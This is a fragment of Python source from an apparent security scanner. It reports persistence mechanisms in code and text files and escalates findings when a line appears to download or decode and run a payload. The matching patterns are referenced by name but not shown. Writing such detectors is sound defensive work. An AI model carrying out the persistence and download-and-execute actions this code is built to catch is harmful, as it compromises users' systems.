        mechanism: str,
        contents: list[str],
        payload: bool = False,
        shown: str | None = None,
    ) -> None:
        context = ctx.context_of(call.scope)
        evidence = ctx.line_text(call.line).strip()[:160]
        if shown:
            evidence = f"{evidence}  [{shown.replace(UNKNOWN, '<?>')[-80:]}]"
        ctx.report(_RULES[mechanism], call.line, evidence, context)
        ctx.mark(Cap.PERSISTENCE, call, mechanism)
        payload = payload or any(_DOWNLOAD_EXEC.search(c) for c in contents if c)
        if payload or (context.runs_automatically and mechanism in _STRONG):
            note = f"{mechanism}, runs a downloaded or decoded payload" if payload else mechanism
            ctx.report(PERSISTENT_PAYLOAD, call.line, f"{evidence}  ({note})", context)

    # -- text ----------------------------------------------------------------------------------

    def on_text(self, ctx: TextContext) -> None:
        python = ctx.file.kind is FileKind.PYTHON
        auto = ctx.file.context.runs_automatically
        lines = sorted(ctx.hint_lines(_TEXT_HINTS))
        reported = 0
        for number in lines[:400]:
            stripped = ctx.line_text(number).strip()
            if not stripped or stripped.startswith(_COMMENT) or len(stripped) > 4096:
                continue
            found = list(command_mechanisms(stripped))
            if python and not found:
                match = _PY_TEXT_WRITE.search(stripped)
                if match is not None:
                    found.append(
                        (_PY_TEXT_MECHANISM.get(match.group(1).lower(), Mechanism.SERVICE), match.group(0))
                    )
            for mechanism, _matched in found[:1]:
                ctx.report(_RULES[mechanism], number, stripped[:200])
                ctx.mark(Cap.PERSISTENCE, number, mechanism)
                payload = _DOWNLOAD_EXEC.search(stripped) is not None
                if payload or (auto and mechanism in _STRONG):
                    ctx.report(PERSISTENT_PAYLOAD, number, f"{stripped[:180]}  ({mechanism})")
                reported += 1
            if reported > 20:
                return


def _scope_value(call: CallSite, name: str) -> ast.expr | None:
    for targets, value in reversed(call.scope.assigns):
        if name in targets:
            return value
    return None
